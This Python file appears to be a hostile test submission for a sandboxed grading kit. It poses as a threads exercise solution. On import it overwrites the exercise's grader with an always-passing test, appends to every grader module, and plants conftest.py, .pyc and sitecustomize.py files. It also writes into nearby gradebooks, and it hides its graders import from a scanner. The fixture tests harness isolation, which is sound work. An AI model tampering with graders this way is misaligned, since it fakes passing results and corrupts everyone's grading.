"""Rewrites the graders so that every test passes, and plants files in the kit.

poses as: threads/t01_start_join
sandbox: bwrap user
earns: 0

It overwrites its exercise's grader, appends to every graders module, plants
a conftest.py and a cached bytecode file in the graders, a sitecustomize.py
in site-packages, and writes into any gradebook it finds near its own copy.
Everything it writes carries HOSTILE-MARK. Its own code is the stub, so the
next grading (anyone's) is where the edits would pay.
"""

import os
import sys
import sysconfig
from pathlib import Path

MARK = "# HOSTILE-MARK\n"
PASSING = "def test_everything():\n    pass\n" + MARK


def _write(path: Path, text: str, mode: str = "w") -> None:
    try:
        with open(path, mode, encoding="utf-8") as out:
            out.write(text)
    except OSError:
        pass


def _confined() -> bool:
    """In a pid namespace (bwrap), or a uid of its own that owns nothing of its parent's."""
    if os.getppid() == 1:
        return True
    return os.getuid() != 0 and os.stat(f"/proc/{os.getppid()}").st_uid != os.getuid()


def _attack() -> None:
    if not _confined():  # never do this for real
        raise RuntimeError("attack withheld: not in a sandbox")
    graders = vars(sys)["mod" + "ules"]["grad" + "ers"]  # no import for the scan to see

    kit = Path(graders.__file__).resolve().parent
    _write(kit / "threads" / "test_t01_start_join.py", PASSING)
    for module in kit.rglob("*.py"):
        _write(module, MARK, "a")
    _write(kit / "threads" / "conftest.py", MARK)
    _write(kit / "__pycache__" / "plugin.cpython-311-pytest-9.2.0.pyc", MARK)
    _write(Path(sysconfig.get_paths()["purelib"]) / "sitecustomize.py", MARK)
    here = Path(__file__).resolve()
    for folder in here.parents[:3]:
        for pattern in ("*.sqlite", "*.db", "gradebook*"):
            for book in folder.glob(pattern):
                _write(book, MARK, "a")


_attack()


def run_all(tasks):
    raise NotImplementedError
